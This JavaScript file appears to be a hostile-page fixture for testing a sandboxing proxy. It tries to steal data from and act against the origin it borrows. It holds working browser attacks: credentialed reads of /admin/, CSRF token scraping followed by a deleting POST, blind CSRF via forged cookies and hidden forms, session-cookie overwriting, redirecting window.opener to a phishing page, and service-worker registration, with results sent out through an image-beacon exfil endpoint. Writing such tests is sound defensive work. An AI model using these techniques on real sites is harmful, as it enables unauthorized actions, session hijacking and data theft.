// What a hostile page tries against the site whose address it borrows. Every result is reported to the backend:
// `got:<what>:<something>` when a try succeeded, `no:<what>:<why>` when it did not, `done` at the end.
const victim = "/admin/endpoints/endpoint/VICTIM/delete/";
const report = (text) => new Promise((ready) => {
  const image = new Image();
  image.onload = image.onerror = ready;
  image.src = `${location.protocol}//${location.host}/olla/proxy/exfil?${encodeURIComponent(String(text).slice(0, 300))}`;
});
const withCookies = { credentials: "include" };
const readFrame = (frame) => {
  const page = frame.contentDocument || frame.contentWindow.document;
  if (!/csrfmiddlewaretoken|logout/i.test(page.documentElement.outerHTML)) throw new Error("nothing to read");
  return page.title;
};
const loaded = (element, parent) => new Promise((ready, failed) => {
  element.onload = () => ready(element);
  element.onerror = () => failed(new Error("did not load"));
  parent.append(element);
});
const tries = {
  async fetch() {
    return (await (await fetch("/admin/", withCookies)).text()).match(/<title>[^<]*/)[0];
  },
  xhr: () => new Promise((ready, failed) => {
    const request = new XMLHttpRequest();
    request.withCredentials = true;
    request.onload = () => ready(request.responseText.length);
    request.onerror = () => failed(new Error("refused"));
    request.open("GET", "/admin/");
    request.send();
  }),
  async internals() {
    return (await fetch("/internal/status", withCookies)).status;
  },
  async postWithToken() {
    const page = await (await fetch(victim, withCookies)).text();
    const token = /csrfmiddlewaretoken" value="([^"]+)"/.exec(page)[1];
    const body = new URLSearchParams({ csrfmiddlewaretoken: token, post: "yes" });
    return (await fetch(victim, { method: "POST", body, ...withCookies })).status;
  },
  async postBlindly() {
    const token = "a".repeat(64);
    try { document.cookie = `csrftoken=${token}; path=/`; } catch { /* try without */ }
    const body = new URLSearchParams({ csrfmiddlewaretoken: token, post: "yes" });
    await fetch(victim, { method: "POST", mode: "no-cors", body, ...withCookies });
    navigator.sendBeacon(victim, body);
    throw new Error("sent; the database tells");
  },
  async postForm() {
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", action: victim, target: "hidden", innerHTML: '<input name="post" value="yes">' });
    const frame = document.createElement("iframe");
    frame.name = "hidden";
    document.body.append(frame, form);
    form.submit();
    throw new Error("sent; the database tells");
  },
  async frame() {
    const frame = document.createElement("iframe");
    frame.src = "/admin/";
    return readFrame(await loaded(frame, document.body));
  },
  async popup() {
    const opened = window.open("/admin/");
    await new Promise((ready) => setTimeout(ready, 300));
    return opened.document.documentElement.outerHTML.length;
  },
  async readOpener() { return window.opener.document.documentElement.outerHTML.match(/<title>[^<]*/)[0]; },
  async callOpener() { return window.opener.eval("document.title"); },
  async moveOpener() { window.opener.location = "/olla/proxy/phish"; return "moved"; },
  async readCookies() { return document.cookie || "empty"; },
  async writeCookies() {
    document.cookie = "sessionid=evil; path=/";
    document.cookie = "messages=evil; path=/admin/";
    return "wrote";
  },
  async storage() { localStorage.setItem("pwned", "1"); return "stored"; },
  async database() {
    return new Promise((ready, failed) => {
      const opening = indexedDB.open("pwned");
      opening.onsuccess = () => ready("opened");
      opening.onerror = () => failed(opening.error);
    });
  },
  async cache() { await caches.open("pwned"); return "opened"; },
  async channel() { return new BroadcastChannel("x") && self.origin === "null" ? Promise.reject(new Error("alone")) : "joined"; },
  async serviceWorker() {
    return (await navigator.serviceWorker.register("/olla/proxy/worker.js", { scope: "/" })).scope;
  },
  worker: () => new Promise((ready, failed) => {
    const worker = new Worker("/olla/proxy/worker.js");
    worker.onmessage = () => ready("ran");
    worker.onerror = () => failed(new Error("did not start"));
  }),
  sharedWorker: () => new Promise((ready, failed) => {
    const worker = new SharedWorker("/olla/proxy/worker.js");
    worker.port.onmessage = () => ready("ran");
    worker.onerror = () => failed(new Error("did not start"));
  }),
  socket: () => new Promise((ready, failed) => {
    const socket = new WebSocket(`ws://${location.host}/admin/`);
    socket.onopen = () => ready("open");
    socket.onerror = () => failed(new Error("refused"));
  }),
  async windowName() { return document.referrer.includes("csrf") ? document.referrer : Promise.reject(new Error("clean")); },
};
// What nothing but the sandbox holds back (test_hostile_backend.py) has the time that a busy machine takes.
const sure = new Set(["fetch", "xhr", "postWithToken", "readCookies", "storage", "database", "cache"]);
const within = (name, promise) => Promise.race([
  promise,
  new Promise((_, failed) => setTimeout(() => failed(new Error("no answer")), sure.has(name) ? 30000 : 3000)),
]);
(async () => {
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      await report(`got:${name}:${await within(name, attempt())}`);
    } catch (error) {
      await report(`no:${name}:${error.name} ${error.message}`);
    }
  }
  await report("done");
})();
